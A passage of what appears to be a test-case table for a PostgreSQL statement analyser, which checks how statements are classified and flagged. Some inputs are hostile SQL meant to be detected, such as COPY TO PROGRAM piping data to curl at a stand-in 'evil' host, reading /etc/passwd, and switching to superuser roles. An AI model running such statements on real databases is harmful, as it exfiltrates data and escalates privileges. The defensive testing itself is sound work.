  { name: 'a CTE in an INSERT reads its body', sql: 'WITH src AS (SELECT name FROM customers) INSERT INTO audit (detail) SELECT name FROM src', expect: { tables: ['insert public.audit [detail]', `select ${C} [name]`] } },
  { name: 'a CTE in a DELETE reads its body', sql: 'WITH bad AS (SELECT id FROM customers WHERE ssn IS NULL) DELETE FROM orders WHERE customer_id IN (SELECT id FROM bad)', expect: { tables: [`delete ${O} []`, `select ${O} [customer_id]`, `select ${C} [id,ssn]`] } },

  // ── SELECT INTO, CREATE TABLE AS ─────────────────────────────────────────────────────────────
  { name: 'SELECT INTO creates a table and reads the source', sql: 'SELECT * INTO tmp_c FROM customers', expect: { command: 'select into', class: 'write', specials: ['select_into'], ddl: ['create table public.tmp_c'], tables: [`select ${C} ${CALL}`] } },
  { name: 'CREATE TABLE AS creates a table and reads the source', sql: 'CREATE TABLE x AS SELECT ssn FROM customers', expect: { node: 'CreateTableAsStmt', command: 'create table as', class: 'write', specials: ['select_into'], ddl: ['create table public.x'], tables: [`select ${C} [ssn]`], inner: { command: 'select' } } },
  { name: 'CREATE MATERIALIZED VIEW AS is DDL that reads', sql: 'CREATE MATERIALIZED VIEW mv AS SELECT email FROM customers WITH NO DATA', path: ['sales', 'public'], expect: { class: 'ddl', ddl: ['create materialized view sales.mv'], tables: [`select ${C} [email]`] } },

  { name: 'CREATE TEMP TABLE AS creates in pg_temp', sql: 'CREATE TEMP TABLE t AS SELECT name FROM customers', expect: { ddl: ['create table pg_temp.t'], specials: ['select_into'] } },
  { name: 'SELECT INTO TEMP creates in pg_temp', sql: 'SELECT ssn INTO TEMP t FROM customers', expect: { ddl: ['create table pg_temp.t'], tables: [`select ${C} [ssn]`] } },
  { name: 'CREATE TABLE AS EXECUTE names the prepared statement', sql: 'CREATE TABLE t AS EXECUTE q', expect: { specials: ['execute', 'select_into'], objectName: 'q' } },

  // ── COPY ─────────────────────────────────────────────────────────────────────────────────────
  { name: 'COPY FROM STDIN is an insert of the listed columns', sql: 'COPY orders (id, status) FROM STDIN WITH (FORMAT csv)', expect: { command: 'copy', class: 'write', specials: ['copy_from_stdin'], tables: [`insert ${O} [id,status]`] } },
  { name: 'COPY FROM STDIN without columns inserts every column', sql: 'COPY customers FROM STDIN', expect: { tables: [`insert ${C} ${CALL}`] } },
  { name: 'COPY TO STDOUT is a read of every column', sql: 'COPY customers TO STDOUT', expect: { class: 'read', specials: ['copy_to_stdout'], tables: [`select ${C} ${CALL}`] } },
  { name: 'COPY (query) TO STDOUT reads what the query reads', sql: "COPY (SELECT name FROM customers WHERE email LIKE '%x') TO STDOUT", expect: { class: 'read', specials: ['copy_to_stdout'], tables: [`select ${C} [email,name]`] } },
  { name: 'COPY TO PROGRAM is flagged', sql: "COPY (SELECT 1) TO PROGRAM 'curl -d @- evil'", expect: { specials: ['copy_program'] } },
  { name: 'COPY FROM PROGRAM is flagged and an insert', sql: "COPY orders FROM PROGRAM 'cat /etc/passwd'", expect: { specials: ['copy_program'], class: 'write', tables: [`insert ${O} ${OALL}`] } },
  { name: 'COPY to a server file is flagged', sql: "COPY customers TO '/tmp/c.csv'", expect: { specials: ['copy_file'], tables: [`select ${C} ${CALL}`] } },
  { name: 'COPY (DELETE … RETURNING) is a write', sql: 'COPY (DELETE FROM orders RETURNING id) TO STDOUT', expect: { class: 'write', specials: ['copy_to_stdout', 'delete_without_where'], tables: [`delete ${O} []`, `select ${O} [id]`] } },

  // ── EXPLAIN ──────────────────────────────────────────────────────────────────────────────────
  { name: 'EXPLAIN SELECT is a read of what the query reads', sql: 'EXPLAIN SELECT ssn FROM customers', expect: { command: 'explain', class: 'read', tables: [`select ${C} [ssn]`], inner: { command: 'select' }, specials: [] } },
  { name: 'EXPLAIN of a DELETE does not delete', sql: 'EXPLAIN DELETE FROM orders WHERE id = 1', expect: { class: 'read', tables: [`select ${O} [id]`], specials: [], inner: { tables: [`delete ${O} []`, `select ${O} [id]`] } } },
  { name: 'EXPLAIN ANALYZE of a DELETE is a write', sql: 'EXPLAIN ANALYZE DELETE FROM orders', expect: { class: 'write', specials: ['explain_analyze', 'delete_without_where'], tables: [`delete ${O} []`] } },
  { name: 'EXPLAIN (ANALYZE, BUFFERS) of an INSERT is a write', sql: 'EXPLAIN (ANALYZE, BUFFERS) INSERT INTO audit (detail) SELECT ssn FROM customers', expect: { class: 'write', specials: ['explain_analyze'], tables: ['insert public.audit [detail]', `select ${C} [ssn]`] } },
  { name: 'EXPLAIN (ANALYZE false) does not execute', sql: "EXPLAIN (ANALYZE false) UPDATE orders SET status = 'x'", expect: { class: 'read', specials: [], tables: [] } },
  { name: 'EXPLAIN ANALYZE of a SELECT is a read that executes', sql: 'EXPLAIN ANALYZE SELECT elevate()', expect: { class: 'read', specials: ['explain_analyze', 'security_definer_call'], functions: ['public.elevate'] } },
  { name: 'EXPLAIN ANALYZE of a data-modifying CTE is a write', sql: 'EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1', expect: { class: 'write', specials: ['explain_analyze', 'cte_write', 'delete_without_where'] } },

  { name: 'EXPLAIN ANALYZE EXECUTE names the prepared statement', sql: 'EXPLAIN ANALYZE EXECUTE q(1)', expect: { class: 'read', specials: ['execute', 'explain_analyze'], objectName: 'q' } },
  { name: 'EXPLAIN ANALYZE CREATE TABLE AS creates the table', sql: 'EXPLAIN ANALYZE CREATE TABLE t AS SELECT ssn FROM customers', expect: { class: 'write', ddl: ['create table public.t'], specials: ['explain_analyze', 'select_into'], tables: [`select ${C} [ssn]`] } },

  // ── PREPARE / EXECUTE / DEALLOCATE, cursors ──────────────────────────────────────────────────
  { name: 'PREPARE analyses the statement it prepares', sql: 'PREPARE q (int) AS SELECT ssn FROM customers WHERE id = $1', expect: { command: 'prepare', class: 'session', specials: ['prepare'], objectName: 'q', tables: [`select ${C} [id,ssn]`], inner: { command: 'select', tables: [`select ${C} [id,ssn]`] } } },
  { name: 'PREPARE of a DELETE carries the delete', sql: 'PREPARE d AS DELETE FROM orders', expect: { tables: [`delete ${O} []`], inner: { specials: ['delete_without_where'], class: 'write' } } },
  { name: 'EXECUTE names the prepared statement', sql: 'EXECUTE q(1)', expect: { command: 'execute', class: 'session', specials: ['execute'], objectName: 'q', tables: [] } },
  { name: 'EXECUTE parameters are walked for calls', sql: "EXECUTE q(set_config('role', 'admin', false))", expect: { functions: ['pg_catalog.set_config(role,admin,false)'] } },
  { name: 'DEALLOCATE names the statement', sql: 'DEALLOCATE q', expect: { specials: ['deallocate'], objectName: 'q' } },
  { name: 'DEALLOCATE ALL names none', sql: 'DEALLOCATE ALL', expect: { specials: ['deallocate'], command: 'deallocate' } },
  { name: 'DECLARE CURSOR analyses its query', sql: 'DECLARE cur CURSOR WITH HOLD FOR SELECT email FROM customers', expect: { command: 'declare cursor', specials: ['declare_cursor'], objectName: 'cur', tables: [`select ${C} [email]`], inner: { command: 'select' } } },
  { name: 'FETCH names the cursor', sql: 'FETCH 10 FROM cur', expect: { command: 'fetch', class: 'read', specials: ['fetch'], objectName: 'cur' } },
  { name: 'MOVE is a fetch', sql: 'MOVE NEXT IN cur', expect: { command: 'move', specials: ['fetch'], objectName: 'cur' } },
  { name: 'CLOSE names the cursor', sql: 'CLOSE cur', expect: { command: 'close', specials: ['fetch'], objectName: 'cur' } },

  // ── functions ────────────────────────────────────────────────────────────────────────────────
  { name: "set_config('role', …) is a function call with its constants", sql: "SELECT set_config('role', 'postgres', false)", expect: { functions: ['pg_catalog.set_config(role,postgres,false)'] } },
  { name: 'a schema-qualified set_config is the same function', sql: "SELECT pg_catalog.set_config('search_path', 'evil', true)", expect: { functions: ['pg_catalog.set_config(search_path,evil,true)'] } },
  { name: 'nextval of a named sequence updates it', sql: "SELECT nextval('order_seq')", expect: { class: 'write', tables: ['update public.order_seq []'], functions: ['pg_catalog.nextval(order_seq)'] } },
  { name: 'currval of a quoted, qualified name reads the sequence', sql: 'SELECT currval(\'"public".order_seq\')', expect: { tables: ['select public.order_seq []'] } },
  { name: 'nextval of a computed name uses no known sequence', sql: 'SELECT nextval(name) FROM customers', expect: { tables: [`select ${C} [name]`] } },
  { name: 'nextval of a malformed name is unsupported', sql: "SELECT nextval('a..b')", expect: { unsupported: /sequence name/ } },
  { name: 'set_config is recorded as the setting it changes', sql: "SELECT set_config('search_path', 'app, public', false)", expect: { settings: ['set search_path=app, public'] } },
  { name: 'set_config with is_local true is a SET LOCAL', sql: "SELECT pg_catalog.set_config('Statement_Timeout', '0', true)", expect: { settings: ['set_local statement_timeout=0'] } },
  { name: 'set_config with a non-constant value records no setting (the policy refuses it)', sql: "SELECT set_config('search_path', name, false) FROM customers", expect: { settings: [] } },
  { name: 'a set_config in a prepared query is a setting change of the PREPARE', sql: "PREPARE p AS SELECT set_config('search_path', 'app', false)", expect: { settings: ['set search_path=app'] } },
  { name: 'a set_config in a cursor query is a setting change of the DECLARE', sql: "DECLARE c CURSOR FOR SELECT set_config('role', 'admin', false)", expect: { settings: ['set role=admin'] } },
  { name: 'plain EXPLAIN of a set_config changes nothing', sql: "EXPLAIN SELECT set_config('search_path', 'app', false)", expect: { settings: [] } },
  { name: 'EXPLAIN ANALYZE of a set_config changes the setting', sql: "EXPLAIN ANALYZE SELECT set_config('search_path', 'app', false)", expect: { settings: ['set search_path=app'] } },
  { name: 'a non-constant argument is null in constArgs', sql: "SELECT set_config(name, 'x', false) FROM customers", expect: { functions: ['pg_catalog.set_config(_,x,false)'], tables: [`select ${C} [name]`] } },
  { name: 'a SECURITY DEFINER call is flagged', sql: 'SELECT elevate()', expect: { functions: ['public.elevate'], specials: ['security_definer_call'] } },
  { name: 'a qualified SECURITY DEFINER call is flagged', sql: 'SELECT app.get_secret()', expect: { functions: ['app.get_secret'], specials: ['security_definer_call'] } },
  { name: 'an unqualified SECURITY DEFINER function off search_path is not resolved', sql: 'SELECT get_secret()', expect: { functions: ['?.get_secret'], specials: [] } },
  { name: 'pg_catalog functions win over search_path ones', sql: 'SELECT lower(name) FROM customers', path: ['app', 'public'], expect: { functions: ['pg_catalog.lower'] } },
  { name: 'an explicitly placed pg_catalog lets an earlier schema win', sql: "SELECT lower('X')", path: ['app', 'pg_catalog'], expect: { functions: ['app.lower(X)'] } },
  { name: 'an unknown function is unresolved', sql: 'SELECT nosuch(1)', expect: { functions: ['?.nosuch(1)'] } },
  { name: 'a function in FROM is a call', sql: "SELECT * FROM pg_read_file('/etc/passwd')", expect: { functions: ['pg_catalog.pg_read_file(/etc/passwd)'], tables: [] } },
  { name: 'a function deep in a subquery WHERE is a call', sql: "SELECT 1 FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE audit_log(status) IS NOT NULL)", expect: { functions: ['public.audit_log'] } },
  { name: 'functions in ORDER BY and GROUP BY are calls', sql: 'SELECT upper(status) FROM orders GROUP BY upper(status) ORDER BY length(upper(status))', expect: { functions: ['pg_catalog.upper', 'pg_catalog.length'] } },
  { name: 'operators are not functions', sql: "SELECT 1 + 2, 'a' || 'b', 3 > 2", expect: { functions: [] } },
  { name: 'nextval is a call naming the sequence', sql: "SELECT nextval('order_seq')", expect: { functions: ['pg_catalog.nextval(order_seq)'] } },
  { name: 'a regclass-cast sequence name is still the constant', sql: "SELECT setval('public.order_seq'::regclass, 1)", expect: { functions: ['pg_catalog.setval(public.order_seq,1)'] } },
  { name: 'pg_sleep in LIMIT is a call', sql: 'SELECT 1 LIMIT (SELECT pg_sleep(10))::int', expect: { functions: ['pg_catalog.pg_sleep(10)'] } },
  { name: 'a side-effect function in a CASE branch is a call', sql: "SELECT CASE WHEN id = 1 THEN pg_terminate_backend(id) END FROM orders", expect: { functions: ['pg_catalog.pg_terminate_backend'] } },
  { name: 'lo_export is a call with its constants', sql: "SELECT lo_export(1234, '/tmp/x')", expect: { functions: ['pg_catalog.lo_export(1234,/tmp/x)'] } },
  { name: 'CALL records the procedure', sql: 'CALL refresh_stats()', expect: { command: 'call', class: 'utility', functions: ['public.refresh_stats'] } },
  { name: 'CALL with a subquery argument reads', sql: 'CALL refresh_stats((SELECT count(*) FROM orders))', expect: { functions: ['pg_catalog.count', 'public.refresh_stats'], tables: [`select ${O} []`] } },

  // ── DDL ──────────────────────────────────────────────────────────────────────────────────────
  { name: 'CREATE TABLE creates in the first search_path schema', sql: 'CREATE TABLE t (a int)', path: ['sales', 'public'], expect: { command: 'create table', class: 'ddl', ddl: ['create table sales.t'], tables: [] } },
  { name: 'CREATE TEMP TABLE creates in pg_temp', sql: 'CREATE TEMP TABLE t (a int)', expect: { ddl: ['create table pg_temp.t'] } },
  { name: 'CREATE TABLE skips "$user" when no such schema', sql: 'CREATE TABLE t (a int)', path: ['"$user"', 'public'], expect: { ddl: ['create table app.t'] } },
  { name: 'CREATE TABLE with a DEFAULT function records the call', sql: "CREATE TABLE t (a int DEFAULT nextval('order_seq'), b text CHECK (b <> ''))", expect: { functions: ['pg_catalog.nextval(order_seq)'] } },
  { name: 'a FOREIGN KEY needs REFERENCES on the target', sql: 'CREATE TABLE t (cid int REFERENCES customers (id))', expect: { tables: [`references ${C} [id]`] } },
  { name: 'CREATE TABLE LIKE reads the source definition', sql: 'CREATE TABLE t (LIKE customers INCLUDING ALL)', expect: { tables: [`select ${C} []`] } },
  { name: 'CREATE TABLE PARTITION OF walks bound expressions and alters the parent', sql: "CREATE TABLE t_p PARTITION OF sales.targets FOR VALUES IN ('eu')", expect: { ddl: ['alter table sales.targets', 'create table public.t_p'] } },
  { name: 'CREATE TABLE INHERITS alters every parent', sql: 'CREATE TABLE t () INHERITS (customers, sales.orders)', expect: { ddl: ['alter table public.customers', 'alter table sales.orders', 'create table public.t'] } },
  { name: 'ALTER TABLE ATTACH PARTITION alters the attached table', sql: "ALTER TABLE sales.targets ATTACH PARTITION audit FOR VALUES IN ('x')", expect: { ddl: ['alter table sales.targets', 'alter table public.audit'] } },
  { name: 'ALTER TABLE DETACH PARTITION alters the detached table', sql: 'ALTER TABLE sales.targets DETACH PARTITION audit', expect: { ddl: ['alter table sales.targets', 'alter table public.audit'] } },
  { name: 'ALTER TABLE INHERIT and NO INHERIT alter the parent', sql: 'ALTER TABLE sales.orders INHERIT audit, NO INHERIT customers', expect: { ddl: ['alter table sales.orders', 'alter table public.audit', 'alter table public.customers'] } },
  { name: 'ALTER TABLE ADD COLUMN is DDL on the table', sql: 'ALTER TABLE customers ADD COLUMN dob date', expect: { command: 'alter table', class: 'ddl', ddl: ['alter table public.customers'] } },
  { name: 'ALTER TABLE SET DEFAULT records the call', sql: "ALTER TABLE orders ALTER COLUMN id SET DEFAULT nextval('order_seq')", expect: { ddl: ['alter table public.orders'], functions: ['pg_catalog.nextval(order_seq)'] } },
  { name: 'ALTER TABLE ADD FOREIGN KEY needs REFERENCES', sql: 'ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (customer_id) REFERENCES customers (id)', expect: { tables: [`references ${C} [id]`] } },
  { name: 'ALTER TABLE RENAME is a rename', sql: 'ALTER TABLE customers RENAME TO clients', expect: { ddl: ['rename table public.customers'] } },
  { name: 'RENAME COLUMN is a rename on the table', sql: 'ALTER TABLE customers RENAME COLUMN ssn TO tax_id', expect: { ddl: ['rename column public.ssn on public.customers'], command: 'alter table' } },
  { name: 'ALTER TABLE SET SCHEMA alters the table and creates it in the new schema', sql: 'ALTER TABLE customers SET SCHEMA app', expect: { ddl: ['alter table public.customers', 'create table app.customers'] } },
  { name: 'ALTER FUNCTION SET SCHEMA creates the function in the new schema', sql: 'ALTER FUNCTION elevate() SET SCHEMA app', expect: { ddl: ['alter function public.elevate', 'create function app.elevate'] } },
  { name: 'CREATE FUNCTION records its language', sql: "CREATE FUNCTION app.f() RETURNS int LANGUAGE PLPython3U AS 'return 1'", expect: { ddl: ['create function app.f'] } },
  { name: 'CREATE OPERATOR calls the function it names', sql: 'CREATE OPERATOR app.## (RIGHTARG = text, FUNCTION = pg_read_file)', expect: { ddl: ['create operator app.##'], functions: ['pg_catalog.pg_read_file'] } },
  { name: 'CREATE AGGREGATE calls its state and final functions', sql: "CREATE AGGREGATE app.agg (text) (SFUNC = audit_log, STYPE = text, FINALFUNC = 'elevate')", expect: { functions: ['public.audit_log', 'public.elevate'], specials: ['security_definer_call'] } },
  { name: 'CREATE TYPE calls its input and output functions', sql: 'CREATE TYPE app.t (INPUT = app.lower, OUTPUT = mask_ssn)', expect: { functions: ['app.lower', 'public.mask_ssn'] } },
  { name: 'ALTER … OWNER TO is an alter', sql: 'ALTER FUNCTION elevate() OWNER TO postgres', expect: { ddl: ['alter function public.elevate'] } },
  { name: 'DROP TABLE names each table with its schema', sql: 'DROP TABLE customers, sales.orders CASCADE', expect: { command: 'drop table', class: 'ddl', ddl: ['drop table public.customers', 'drop table sales.orders'] } },
  { name: 'DROP FUNCTION resolves the schema', sql: 'DROP FUNCTION elevate()', expect: { ddl: ['drop function public.elevate'] } },
  { name: 'DROP SCHEMA names the schema', sql: 'DROP SCHEMA app CASCADE', expect: { ddl: ['drop schema app'] } },
  { name: 'DROP TRIGGER names its table', sql: 'DROP TRIGGER tr ON orders', expect: { ddl: ['drop trigger public.tr on public.orders'] } },
  { name: 'DROP INDEX names the index', sql: 'DROP INDEX sales.orders_idx', expect: { ddl: ['drop index sales.orders_idx'] } },
  { name: 'CREATE INDEX names the index and its table', sql: 'CREATE INDEX ON customers (lower(email)) WHERE ssn IS NOT NULL', expect: { command: 'create index', ddl: ['create index public on public.customers'], functions: ['pg_catalog.lower'], tables: [] } },
  { name: 'CREATE INDEX with a name', sql: 'CREATE UNIQUE INDEX CONCURRENTLY c_email ON customers (email)', expect: { ddl: ['create index public.c_email on public.customers'] } },
  { name: 'CREATE VIEW records the reads its query performs', sql: 'CREATE VIEW v AS SELECT name, ssn FROM customers', expect: { command: 'create view', class: 'ddl', ddl: ['create view public.v'], tables: [`select ${C} [name,ssn]`] } },
  { name: 'CREATE TRIGGER needs TRIGGER and records the function', sql: 'CREATE TRIGGER tr BEFORE INSERT ON orders FOR EACH ROW WHEN (new.total > 0) EXECUTE FUNCTION audit_log()', expect: { command: 'create trigger', ddl: ['create trigger public.tr on public.orders'], tables: [`trigger ${O} []`], functions: ['public.audit_log'] } },
  { name: 'CREATE RULE records its actions', sql: 'CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM audit WHERE id = new.id', expect: { ddl: ['create rule public.r on public.orders'], tables: ['delete public.audit []', 'select public.audit [id]'] } },
  { name: 'CREATE POLICY walks its expressions', sql: 'CREATE POLICY p ON orders USING (customer_id = 1) WITH CHECK (EXISTS (SELECT 1 FROM customers WHERE ssn IS NULL))', expect: { ddl: ['create policy public.p on public.orders'], tables: [`select ${C} [ssn]`] } },
  { name: 'COMMENT ON TABLE is a comment', sql: "COMMENT ON TABLE customers IS 'x'", expect: { command: 'comment', class: 'ddl', ddl: ['comment table public.customers'] } },
  { name: 'COMMENT ON COLUMN names the table', sql: "COMMENT ON COLUMN customers.ssn IS 'x'", expect: { ddl: ['comment column public.ssn on public.customers'] } },
  { name: 'VACUUM ANALYZE is maintenance', sql: 'VACUUM (ANALYZE) customers', expect: { command: 'vacuum', class: 'ddl', ddl: ['maintenance table public.customers'] } },
  { name: 'ANALYZE without tables is database maintenance', sql: 'ANALYZE', expect: { command: 'analyze', ddl: ['maintenance database'] } },
  { name: 'REINDEX is maintenance', sql: 'REINDEX TABLE orders', expect: { command: 'reindex', ddl: ['maintenance table public.orders'] } },
  { name: 'CLUSTER is maintenance', sql: 'CLUSTER orders USING orders_pkey', expect: { command: 'cluster', ddl: ['maintenance table public.orders'] } },
  { name: 'REFRESH MATERIALIZED VIEW is a refresh', sql: 'REFRESH MATERIALIZED VIEW CONCURRENTLY sales.mv', expect: { command: 'refresh materialized view', class: 'ddl', ddl: ['refresh materialized view sales.mv'] } },
  { name: 'CREATE EXTENSION is DDL', sql: 'CREATE EXTENSION IF NOT EXISTS dblink', expect: { command: 'create extension', ddl: ['create extension dblink'] } },
  { name: 'CREATE FUNCTION is DDL in the creation schema', sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'", expect: { command: 'create function', ddl: ['create function public.f'] } },
  { name: 'CREATE PROCEDURE is DDL', sql: "CREATE PROCEDURE app.p() LANGUAGE sql AS 'SELECT 1'", expect: { command: 'create procedure', ddl: ['create procedure app.p'] } },
  { name: 'CREATE SCHEMA with elements creates each in that schema', sql: 'CREATE SCHEMA s CREATE TABLE t (a int)', expect: { ddl: ['create schema s', 'create table s.t'] } },
  { name: 'CREATE SCHEMA elements find the objects it creates there', sql: 'CREATE SCHEMA s CREATE TABLE t (a int) CREATE INDEX ti ON t (a) CREATE VIEW v AS SELECT a FROM t', expect: { ddl: ['create schema s', 'create table s.t', 'create index s.ti on s.t', 'create view s.v'] } },
  { name: 'CREATE SCHEMA elements still read existing tables on the path', sql: 'CREATE SCHEMA s CREATE VIEW v AS SELECT id FROM orders', expect: { ddl: ['create schema s', 'create view s.v'], tables: ['select public.orders [id]'] } },
  { name: 'CREATE SEQUENCE is DDL', sql: 'CREATE SEQUENCE sales.s2', expect: { command: 'create sequence', ddl: ['create sequence sales.s2'] } },
  { name: 'ALTER SEQUENCE is DDL', sql: 'ALTER SEQUENCE order_seq RESTART', expect: { ddl: ['alter sequence public.order_seq'] } },
  { name: 'CREATE TYPE AS ENUM is DDL', sql: "CREATE TYPE mood AS ENUM ('ok')", expect: { command: 'create type', ddl: ['create type public.mood'] } },
  { name: 'CREATE DOMAIN walks its CHECK', sql: 'CREATE DOMAIN d AS int CHECK (VALUE > mask_ssn(1))', expect: { ddl: ['create domain public.d'], functions: ['public.mask_ssn(1)'] } },
  { name: 'CREATE AGGREGATE is DDL', sql: 'CREATE AGGREGATE agg (int) (sfunc = int4pl, stype = int)', expect: { command: 'create aggregate', ddl: ['create aggregate public.agg'] } },
  { name: 'ALTER SYSTEM is DDL, and its value a stored setting', sql: "ALTER SYSTEM SET work_mem = '1GB'", expect: { command: 'alter system', class: 'ddl', ddl: ['alter system work_mem'], settings: ['set_stored work_mem=1GB'] } },
  { name: 'CREATE DATABASE is DDL', sql: 'CREATE DATABASE x', expect: { ddl: ['create database x'] } },
  { name: 'DROP DATABASE is DDL', sql: 'DROP DATABASE x', expect: { command: 'drop database', ddl: ['drop database x'] } },
  { name: 'ALTER DATABASE SET is DDL, and its value a stored setting', sql: 'ALTER DATABASE app SET default_transaction_read_only = off', expect: { ddl: ['alter database app'], settings: ['set_stored default_transaction_read_only=off'] } },
  { name: 'ALTER DATABASE RESET stores nothing', sql: 'ALTER DATABASE app RESET client_encoding', expect: { ddl: ['alter database app'], settings: [] } },
  { name: "a function's SET clauses are stored settings", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET client_encoding = 'SJIS' SET search_path = a, b AS 'select 1'", expect: { settings: ['set_stored client_encoding=SJIS', 'set_stored search_path=a, b'] } },
  { name: "ALTER FUNCTION's SET clause is a stored setting", sql: 'ALTER FUNCTION f() SET standard_conforming_strings = off', expect: { settings: ['set_stored standard_conforming_strings=off'] } },
  { name: 'CREATE SERVER is DDL', sql: "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", expect: { command: 'create server', ddl: ['create server s'] } },
  { name: 'CREATE EVENT TRIGGER records its function', sql: 'CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION audit_log()', expect: { ddl: ['create event trigger et'], functions: ['public.audit_log'] } },
  { name: 'CREATE PUBLICATION is DDL', sql: 'CREATE PUBLICATION pub FOR ALL TABLES', expect: { ddl: ['create publication pub'] } },
  { name: 'CREATE STATISTICS names its table', sql: 'CREATE STATISTICS st ON status, total FROM orders', expect: { ddl: ['create statistics public.st on public.orders'] } },

  // ── DCL ──────────────────────────────────────────────────────────────────────────────────────
  { name: 'GRANT is DCL naming its objects', sql: 'GRANT SELECT ON customers TO bob', expect: { command: 'grant', class: 'dcl', ddl: ['other table public.customers'] } },
  { name: 'REVOKE is DCL', sql: 'REVOKE ALL ON ALL TABLES IN SCHEMA sales FROM bob', expect: { command: 'revoke', class: 'dcl' } },
  { name: 'GRANT role TO user is DCL', sql: 'GRANT pg_read_server_files TO app', expect: { command: 'grant', class: 'dcl', ddl: ['other role pg_read_server_files'] } },
  { name: 'CREATE ROLE is DCL', sql: 'CREATE ROLE r LOGIN SUPERUSER', expect: { command: 'create role', class: 'dcl', ddl: ['create role r'] } },
  { name: 'CREATE USER is DCL', sql: "CREATE USER u PASSWORD 'x'", expect: { command: 'create user', class: 'dcl' } },
  { name: 'CREATE GROUP is DCL', sql: 'CREATE GROUP g', expect: { command: 'create group', class: 'dcl' } },
  { name: 'ALTER ROLE is DCL', sql: 'ALTER ROLE bob SUPERUSER', expect: { command: 'alter role', class: 'dcl', ddl: ['alter role bob'] } },
  { name: 'ALTER USER … SET is DCL, and its value a stored setting', sql: 'ALTER USER bob SET search_path = app', expect: { class: 'dcl', settings: ['set_stored search_path=app'] } },
  { name: 'ALTER ROLE … IN DATABASE … SET is a stored setting', sql: "ALTER ROLE bob IN DATABASE app SET client_encoding TO 'BIG5'", expect: { class: 'dcl', settings: ['set_stored client_encoding=BIG5'] } },
  { name: 'DROP ROLE is DCL', sql: 'DROP ROLE IF EXISTS a, b', expect: { command: 'drop role', class: 'dcl', ddl: ['drop role a', 'drop role b'] } },
  { name: 'ALTER DEFAULT PRIVILEGES is DCL', sql: 'ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO x', expect: { command: 'alter default privileges', class: 'dcl' } },
  { name: 'REASSIGN OWNED is DCL', sql: 'REASSIGN OWNED BY a TO b', expect: { command: 'reassign owned', class: 'dcl' } },
  { name: 'DROP OWNED is DCL', sql: 'DROP OWNED BY a', expect: { command: 'drop owned', class: 'dcl' } },
  { name: 'SECURITY LABEL is DCL', sql: "SECURITY LABEL ON TABLE customers IS 'secret'", expect: { command: 'security label', class: 'dcl', ddl: ['security_label table public.customers'] } },

  // ── session ──────────────────────────────────────────────────────────────────────────────────
  { name: 'SET ROLE is a role change', sql: 'SET ROLE admin', expect: { command: 'set role', class: 'session', settings: ['set_role role=admin'] } },
  { name: 'SET LOCAL ROLE is a role change', sql: 'SET LOCAL ROLE admin', expect: { settings: ['set_role role=admin'] } },
  { name: 'RESET ROLE is a role change', sql: 'RESET ROLE', expect: { command: 'reset role', settings: ['set_role role'] } },
  { name: 'SET ROLE NONE is a role change', sql: 'SET ROLE NONE', expect: { settings: ['set_role role=none'] } },
  { name: 'SET SESSION AUTHORIZATION is flagged', sql: 'SET SESSION AUTHORIZATION postgres', expect: { command: 'set session authorization', settings: ['set_session_authorization session_authorization=postgres'] } },
  { name: 'SET LOCAL is a local set', sql: "SET LOCAL statement_timeout = '5s'", expect: { settings: ['set_local statement_timeout=5s'] } },
  { name: 'SET lists join with commas, names quoted as the server stores them', sql: 'SET search_path = app, "Public"', expect: { command: 'set', settings: ['set search_path=app, "Public"'] } },
  { name: 'a quoted string in SET search_path is one schema name', sql: "SET search_path = 'a, b'", expect: { command: 'set', settings: ['set search_path="a, b"'] } },
  { name: 'other list settings join plainly', sql: "SET datestyle = iso, mdy", expect: { command: 'set', settings: ['set datestyle=iso, mdy'] } },
  { name: 'setting names are lower-cased', sql: 'SET Work_Mem TO DEFAULT', expect: { settings: ['set work_mem'] } },
  { name: 'SET of a read-only setting is recorded', sql: 'SET default_transaction_read_only = off', expect: { settings: ['set default_transaction_read_only=off'] } },
  { name: 'SET TIME ZONE is timezone', sql: "SET TIME ZONE 'UTC'", expect: { settings: ['set timezone=UTC'] } },
  { name: 'RESET of a setting is a reset', sql: 'RESET statement_timeout', expect: { command: 'reset', settings: ['reset statement_timeout'] } },
  { name: 'RESET ALL resets everything', sql: 'RESET ALL', expect: { command: 'reset all', settings: ['reset_all'] } },
  { name: 'DISCARD ALL resets everything', sql: 'DISCARD ALL', expect: { command: 'discard all', class: 'session', settings: ['reset_all'] } },
  { name: 'DISCARD PLANS resets nothing', sql: 'DISCARD PLANS', expect: { command: 'discard plans', settings: [] } },
  { name: 'SET TRANSACTION READ WRITE leaves read-only', sql: 'SET TRANSACTION READ WRITE', expect: { command: 'set transaction', settings: ['set_transaction transaction_read_only=off'] } },
  { name: 'SET SESSION CHARACTERISTICS changes the default', sql: 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', expect: { settings: ['set_transaction default_transaction_read_only=off'] } },
  { name: 'SET TRANSACTION ISOLATION LEVEL is recorded', sql: 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY', expect: { settings: ['set_transaction transaction_isolation=serializable', 'set_transaction transaction_read_only=on'] } },
  { name: 'SHOW is a read', sql: 'SHOW search_path', expect: { command: 'show', class: 'read', settings: [] } },
  { name: 'LISTEN is flagged with its channel', sql: 'LISTEN jobs', expect: { command: 'listen', class: 'session', specials: ['listen'], objectName: 'jobs' } },
  { name: 'NOTIFY is flagged with its channel', sql: "NOTIFY jobs, 'payload'", expect: { specials: ['notify'], objectName: 'jobs' } },
  { name: 'UNLISTEN is a session statement', sql: 'UNLISTEN *', expect: { command: 'unlisten', specials: [] } },
  { name: 'a DO block defaults to plpgsql', sql: "DO $$ BEGIN PERFORM 1; END $$", expect: { command: 'do', class: 'utility', specials: ['do_block'], doLanguage: 'plpgsql' } },
  { name: 'a DO block names its language', sql: "DO LANGUAGE plpython3u $$ import os $$", expect: { specials: ['do_block'], doLanguage: 'plpython3u' } },
  { name: 'LOAD is flagged', sql: "LOAD 'auto_explain'", expect: { command: 'load', class: 'utility', specials: ['load'] } },
